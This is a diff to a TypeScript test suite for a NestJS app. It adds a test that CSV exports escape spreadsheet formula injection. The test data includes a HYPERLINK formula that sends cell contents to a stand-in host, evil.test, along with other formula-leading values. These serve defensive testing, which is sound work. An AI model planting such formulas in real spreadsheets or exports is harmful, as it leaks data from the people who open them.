@@ -5,7 +5,7 @@ import type { INestApplication, LoggerService } from '@nestjs/common';
 import { createApp } from '../src/bootstrap';
 import { runMigrations } from '../src/database/data-source';
 import { freePort, startEmbeddedPostgres } from '../src/database/embedded-postgres';
-import { api, createPlatformAdmin, login, onboardOrganization, PASSWORD, startTestApp, type TestApp, type TestOrg, testConfig } from './helpers';
+import { api, createPlatformAdmin, login, onboardOrganization, PASSWORD, startTestApp, type TestApp, type TestOrg, testConfig, unique } from './helpers';
 
 describe('HTTP edges', () => {
   let t: TestApp;
@@ -136,6 +136,43 @@ describe('HTTP edges', () => {
       const ok = await api(t.url, 'GET', '/api/users?page=1000000', { token: org.hrToken });
       expect(ok.status).toBe(200);
       expect(ok.body.items).toEqual([]);
+    });
+
+    it('neutralises spreadsheet formulas in every CSV: audit report numbers and completion exports', async () => {
+      const evil = '=HYPERLINK("http://evil.test/?"&A1,"click")';
+      const numbers = {
+        summary: { all: { assigned: 12, completed: 6, overdue: 1, suppressed: false } },
+        breakdowns: {
+          unit: [
+            { group: evil, assigned: 6, completed: 3, overdue: 0, completionRate: 0.5, suppressed: false },
+            { group: '-2+3', assigned: 6, completed: 3, overdue: 1, completionRate: 0.5, suppressed: false },
+            { group: '@SUM(A1:A9)', assigned: null, completed: null, overdue: null, completionRate: null, suppressed: true },
+          ],
+        },
+        certificates: { issued: 3 },
+      };
+      const [report] = await t.dataSource.query(
+        `INSERT INTO audit_reports (organization_id, period_start, period_end, status, numbers) VALUES ($1, '2026-01-01', '2026-06-30', 'done', $2) RETURNING id`,
+        [org.id, JSON.stringify(numbers)],
+      );
+      const res = await fetch(`${t.url}/api/audit-reports/${report.id}/numbers.csv`, { headers: { authorization: `Bearer ${org.hrToken}` } });
+      expect(res.status).toBe(200);
+      const lines = (await res.text()).split(/\r?\n/);
+      expect(lines).toContain(`unit,"'=HYPERLINK(""http://evil.test/?""&A1,""click"")",6,3,0,0.5000,false`);
+      expect(lines).toContain(`unit,'-2+3,6,3,1,0.5000,false`);
+      expect(lines).toContain(`unit,'@SUM(A1:A9),,,,,true`);
+      expect(lines).toContain('summary,all,12,6,1,0.5000,false');
+
+      for (const name of [evil, '+62 Cabang']) {
+        const unit = await api(t.url, 'POST', '/api/units', { token: org.hrToken, body: { code: unique('U'), name } });
+        expect(unit.status).toBe(201);
+      }
+      const csv = await fetch(`${t.url}/api/reports/completion.csv?groupBy=unit`, { headers: { authorization: `Bearer ${org.hrToken}` } });
+      expect(csv.status).toBe(200);
+      const text = await csv.text();
+      expect(text).toContain(`"'=HYPERLINK(""http://evil.test/?""&A1,""click"")"`);
+      expect(text).toContain(`'+62 Cabang`);
+      expect(text).not.toMatch(/(^|[\n,])[=+@-]/);
     });
 
     it('answers 400 naming afterSeq past bigint', async () => {
